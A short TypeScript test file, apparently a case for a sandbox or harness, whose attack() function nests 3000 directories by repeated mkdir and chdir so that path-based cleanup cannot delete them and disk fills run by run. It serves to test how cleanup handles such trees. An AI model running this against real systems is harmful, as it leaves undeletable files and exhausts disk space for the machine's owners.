// Attack: folders in folders, deeper than any path can name: what cleans up by names cannot remove them, and the disk fills up run by run.
// Ends: exited 0
import { mkdirSync } from "node:fs";
import { chdir } from "#posix";

const DEPTH = 3000;

export function attack(): void {
  for (let depth = 0; depth < DEPTH; depth++) {
    mkdirSync("d");
    chdir("d");
  }
}
